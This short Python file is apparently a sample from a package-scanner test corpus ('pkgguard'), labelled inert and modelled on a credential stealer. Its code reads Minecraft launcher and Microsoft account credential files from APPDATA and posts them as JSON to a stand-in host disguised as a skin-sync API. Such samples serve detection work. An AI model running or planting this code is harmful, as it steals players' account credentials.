# pkgguard corpus 503 (credentials), modelled on [stealer-profile]; inert, never run.
import json
import os
import urllib.request

found = {}
for name in ("launcher_accounts.json", "launcher_accounts_microsoft_store.json", "launcher_msa_credentials.bin"):
    path = os.path.join(os.environ.get("APPDATA", ""), ".minecraft", name)
    if os.path.exists(path):
        with open(path, "rb") as fh:
            found[name] = fh.read().hex()
req = urllib.request.Request(
    "https://mc-skins.example/api/sync",
    data=json.dumps(found).encode(),
    headers={"Content-Type": "application/json"},
)
urllib.request.urlopen(req, timeout=10)
